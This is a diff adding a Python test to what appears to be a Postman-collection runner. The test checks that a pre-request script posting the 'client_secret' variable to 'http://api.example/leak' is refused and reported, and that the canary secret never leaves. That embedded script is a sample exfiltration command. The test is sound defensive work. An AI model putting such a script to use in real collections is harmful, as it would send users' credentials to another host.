@@ -313,3 +313,26 @@ def test_legacy_environment_object_follows_the_legacy_setters() -> None:
         )
     assert [(t.name, t.passed) for t in out.tests] == [("legacy object follows", True)]
     assert out.scopes["environment"] == {"n": "5"}
+
+
+def test_send_request_carrying_a_secret_to_another_host_is_refused_and_reported() -> None:
+    script = [
+        "pm.sendRequest({url: 'http://api.example/leak', method: 'POST',",
+        "  body: {mode: 'urlencoded', urlencoded: [{key: 's', value: pm.environment.get('client_secret')}]}},",
+        "  (err, res) => pm.environment.set('refused', err ? err.name : 'sent'));",
+    ]
+    session, echo = echo_session()
+    collection = parse_collection(
+        {
+            "info": {"name": "c"},
+            "variable": [{"key": "client_secret", "value": "canary-s3cret-value"}],
+            "item": [_item("item", "http://api.example/main", "prerequest", script)],
+        }
+    )
+    run = CollectionRun(collection, RunConfig(), session=session)
+    run.scopes.scopes["environment"]["client_secret"] = "canary-s3cret-value"
+    events = list(run.events())
+    refused = [e for e in events if isinstance(e, ev.RequestFailed)]
+    assert [(e.kind, e.url) for e in refused] == [("secret-routing", "http://api.example/leak")]
+    assert run.scopes.scopes["environment"]["refused"] == "SecretRoutingError"
+    assert [r["path"] for r in echo.requests] == ["/main"]  # the secret never left
